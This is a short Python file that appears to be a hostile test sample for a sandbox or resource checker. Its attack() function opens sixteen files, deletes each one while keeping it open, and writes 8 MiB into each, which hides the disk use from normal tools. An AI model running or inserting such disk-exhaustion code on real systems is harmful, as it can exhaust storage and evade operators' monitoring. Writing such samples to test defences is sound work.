# damaging: fills the disk with files that it has removed and keeps open
# wins: nowhere, it would do harm
import os
import time


def attack():
    kept = []
    for _ in range(16):
        kept.append(open("file", "wb", buffering=0))
        os.unlink("file")
        kept[-1].write(bytes(8 * 2**20))
    time.sleep(0.5)
